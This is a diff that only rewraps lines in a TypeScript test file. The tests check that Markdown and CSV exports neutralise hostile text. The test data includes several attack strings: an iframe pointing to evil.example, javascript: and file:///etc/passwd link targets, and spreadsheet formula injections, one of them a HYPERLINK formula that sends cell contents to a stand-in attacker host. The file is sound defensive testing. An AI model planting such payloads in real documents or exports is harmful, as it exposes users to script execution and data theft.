@@ -53,7 +53,9 @@ function render(markdown: string): Document {
 }
 
 function expectOnlySafeMarkup(document: Document): void {
-  expect(document.querySelectorAll('img, script, iframe, object, embed, svg, style, code, pre, h3, h4, ol, table, del, strong em')).toHaveLength(0);
+  expect(
+    document.querySelectorAll('img, script, iframe, object, embed, svg, style, code, pre, h3, h4, ol, table, del, strong em'),
+  ).toHaveLength(0);
   for (const element of document.querySelectorAll('*')) {
     for (const attribute of element.getAttributeNames()) expect(attribute, element.outerHTML).not.toMatch(/^on/);
   }
@@ -75,7 +77,11 @@ async function hostileLog(): Promise<BinomeDb> {
     },
   } as never);
   await db.transaction('rw', db.threads, db.messages, () => refreshThread(db, threadId));
-  await db.notes.put({ threadId, text: 'My note\n<iframe src="https://evil.example"></iframe>\n[x](data:text/html,boo)', updatedAt: 2 });
+  await db.notes.put({
+    threadId,
+    text: 'My note\n<iframe src="https://evil.example"></iframe>\n[x](data:text/html,boo)',
+    updatedAt: 2,
+  });
   return db;
 }
 
@@ -107,10 +113,20 @@ describe('Markdown export of hostile text', () => {
   });
 
   it('links a page only when its address is http(s), percent-encoding what could end the link', () => {
-    expect(markdownLink('Report (final)', 'https://example.com/a (b)/c?q=<x>')).toBe('[Report (final)](https://example.com/a%20%28b%29/c?q=%3Cx%3E)');
+    expect(markdownLink('Report (final)', 'https://example.com/a (b)/c?q=<x>')).toBe(
+      '[Report (final)](https://example.com/a%20%28b%29/c?q=%3Cx%3E)',
+    );
     expect(markdownLink('', 'https://example.com/')).toBe('[https://example.com/](https://example.com/)');
     expect(markdownLink('Mail me', 'mailto:lea@example.com')).toBe('[Mail me](mailto:lea@example.com)');
-    for (const address of ['javascript:alert(1)', 'JavaScript:alert(1)', ' javascript:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:x', 'file:///etc/passwd', 'not a url']) {
+    for (const address of [
+      'javascript:alert(1)',
+      'JavaScript:alert(1)',
+      ' javascript:alert(1)',
+      'data:text/html,<b>x</b>',
+      'vbscript:x',
+      'file:///etc/passwd',
+      'not a url',
+    ]) {
       const markdown = markdownLink('Page', address);
       expect(markdown).not.toMatch(/\]\(/);
       expectOnlySafeMarkup(render(markdown));
@@ -118,7 +134,9 @@ describe('Markdown export of hostile text', () => {
   });
 
   it('escapes only what could be syntax, so the file stays readable', () => {
-    expect(markdownInline('Tableau croisé ? Insertion > TCD, 2 + 2 = 4, "Team"')).toBe('Tableau croisé ? Insertion > TCD, 2 + 2 = 4, "Team"');
+    expect(markdownInline('Tableau croisé ? Insertion > TCD, 2 + 2 = 4, "Team"')).toBe(
+      'Tableau croisé ? Insertion > TCD, 2 + 2 = 4, "Team"',
+    );
     expect(markdownInline('a\\b [c] <d> & e*f_g`h')).toBe('a\\\\b \\[c\\] &lt;d> &amp; e\\*f\\_g\\`h');
     expect(markdownLines('line one\n- two\n3) three')).toEqual(['line one', '\\- two', '3\\) three']);
   });
@@ -128,8 +146,19 @@ describe('CSV export of hostile text', () => {
   it('defuses every cell a spreadsheet could run as a formula', async () => {
     const db = freshDb();
     await db.pairs.add(testPair({ peerName: '@SUM(1+1)*cmd' }));
-    const formulas = ['=HYPERLINK("https://evil.example?d="&A1,"Click")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\uFF1D1+1'];
-    for (const [index, formula] of formulas.entries()) await addEntry(db, { question: formula, answer: `fine ${index}`, at: 1000 + index * 10_000 });
+    const formulas = [
+      '=HYPERLINK("https://evil.example?d="&A1,"Click")',
+      '+1+1',
+      '-1+1',
+      '@SUM(A1)',
+      '\t=1+1',
+      '\r=1+1',
+      '\n=1+1',
+      '  =1+1',
+      '\uFF1D1+1',
+    ];
+    for (const [index, formula] of formulas.entries())
+      await addEntry(db, { question: formula, answer: `fine ${index}`, at: 1000 + index * 10_000 });
     const csv = await exportCsv(db, labels);
     for (const formula of formulas) expect(csv).toContain(`"'${formula.replace(/"/g, '""')}"`);
     expect(csv).toContain(`"'@SUM(1+1)*cmd"`);
